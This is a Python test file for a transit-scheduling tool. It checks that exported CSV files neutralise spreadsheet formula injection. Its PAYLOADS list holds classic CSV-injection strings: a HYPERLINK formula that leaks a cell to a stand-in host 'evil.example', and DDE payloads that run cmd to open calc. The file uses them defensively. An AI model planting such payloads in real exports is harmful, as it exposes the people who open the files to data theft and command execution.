"""CSV injection: a publication with formula-like names writes no live formula in any CSV.

The default scenario's Stops, PopUps and a commune are renamed to the classic CSV-injection
payloads (OWASP), the Schedule is published (store, public site, open data, drivers' files),
the plan and the access diagnostic are exported, and every cell of every CSV written is read
back with :mod:`csv`: none may start with ``= + - @``, a tab or a carriage return unless it is
a plain number; the payloads must be there, neutralised with one leading ``'``.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from pathlib import Path

import pytest

from itinerant.access import diagnose, write_access
from itinerant.io.csvfiles import FORMULA_STARTS
from itinerant.model import Scenario
from itinerant.pipeline import build_network
from itinerant.publish.release import publish_schedule
from itinerant.schedule.export import write_plan
from itinerant.schedule.validate import validate
from itinerant.store import Store, sqlite_url
from tests.conftest import DefaultPlan

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")',
    "+33 5 55 00 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)
"""Names given to Stops, PopUps and a commune (cycled)."""

NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?")


def _formula_scenario(scenario: Scenario) -> Scenario:
    stops = tuple(
        replace(s, name=f"{PAYLOADS[i % len(PAYLOADS)]} {i}", address=PAYLOADS[(i + 1) % 5])
        for i, s in enumerate(scenario.stops)
    )
    popups = tuple(
        replace(p, name=f"{PAYLOADS[(i + 2) % len(PAYLOADS)]} {i}")
        for i, p in enumerate(scenario.popups)
    )
    return replace(scenario, stops=stops, popups=popups)


def _cells(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    first = text.split("\n", 1)[0]
    delimiter = ";" if first.count(";") > first.count(",") else ","
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]


def _unsafe(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]


@pytest.fixture(scope="module")
def written(default_plan: DefaultPlan, tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Every CSV of a publication, a plan export and an access diagnostic (formula names)."""
    scenario = _formula_scenario(default_plan.scenario)
    out = tmp_path_factory.mktemp("csv-safety")
    with Store.open(sqlite_url(out / "store.db")) as store:
        result = publish_schedule(
            default_plan.schedule,
            scenario,
            store=store,
            out_dir=out / "publication",
            author="coordinatrice",
            matrix=default_plan.matrix,
            network=build_network(scenario),
            lang="fr",
        )
    report = validate(default_plan.schedule, default_plan.data)
    write_plan(default_plan.schedule, report, report, scenario, out / "plan")
    communes = list(scenario.territory.communes)
    communes[0] = replace(communes[0], name=PAYLOADS[0])
    territory = replace(scenario.territory, communes=tuple(communes))
    renamed = replace(scenario, territory=territory)
    write_access(diagnose(renamed, default_plan.matrix), renamed, out / "access")
    assert result.files
    return sorted(out.rglob("*.csv"))


def test_the_publication_writes_the_expected_csv_files(written: list[Path]) -> None:
    names = {p.name for p in written}
    assert {"calendrier.csv", "schedule.csv", "access.csv"} <= names, names
    assert any(p.parent.name == "chauffeurs" or "chauffeurs" in p.parts for p in written), names


def test_no_csv_cell_can_start_a_formula(written: list[Path]) -> None:
    for path in written:
        bad = _unsafe(_cells(path))
        assert not bad, f"{path.name}: {bad[:5]}"


@pytest.mark.parametrize("name", ["calendrier.csv", "schedule.csv", "access.csv"])
def test_the_payloads_are_written_neutralised(written: list[Path], name: str) -> None:
    cells = [c for p in written if p.name == name for c in _cells(p)]
    assert any(c.startswith("'=HYPERLINK(") for c in cells), name


def test_the_drivers_csv_carry_the_neutralised_stop_names(written: list[Path]) -> None:
    drivers = [p for p in written if "chauffeurs" in p.parts]
    cells = [c for p in drivers for c in _cells(p)]
    neutralised = {c for c in cells if c.startswith("'") and c[1:2] in "=+-@"}
    assert len({c[:4] for c in neutralised}) >= 3, sorted(neutralised)[:10]


def test_numbers_stay_numbers(written: list[Path]) -> None:
    """Coordinates, minutes and counts are written bare, not as neutralised text."""
    cells = [c for p in written if p.name in {"calendrier.csv", "access.csv"} for c in _cells(p)]
    assert any(NUMBER.fullmatch(c) for c in cells)
    assert not [c for c in cells if c.startswith("'") and NUMBER.fullmatch(c[1:])]
